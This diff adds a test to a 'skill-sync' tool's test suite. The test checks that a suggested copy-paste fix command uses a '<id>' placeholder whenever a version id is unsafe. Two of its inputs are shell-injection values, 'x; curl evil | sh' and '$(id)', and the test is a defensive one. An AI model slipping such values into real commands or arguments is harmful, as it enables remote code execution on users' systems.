@@ -49,6 +49,16 @@ test.each([ours, theirs])('refuses a newer version with other content, whatever 
   expect(change).toMatchObject({ kind: 'blocked', what: expect.stringContaining('"skver_2"') });
 });
 
+test.each([
+  ['skver_2', 'skill-sync pull triage --skill-version skver_2 --overwrite'],
+  ['x; curl evil | sh', 'skill-sync pull triage --skill-version <id> --overwrite'],
+  ['$(id)', 'skill-sync pull triage --skill-version <id> --overwrite'],
+])('names a command that can be pasted, whatever the id of that version is: %s', (id, command) => {
+  const survey = { ...nothing, latestVersions: new Map([['skill_1', id]]), contents: holds(theirs) };
+  const [change] = planChanges([triage], new Map([['triage', locked]]), survey);
+  expect(change).toMatchObject({ kind: 'blocked', fix: expect.stringContaining(`or ${command} takes it over`) });
+});
+
 test('refuses when the locked skill is gone', () => {
   const [change] = planChanges([triage], new Map([['triage', locked]]), nothing);
   expect(change).toMatchObject({ kind: 'blocked', what: 'the platform has no skill "skill_1" any more' });
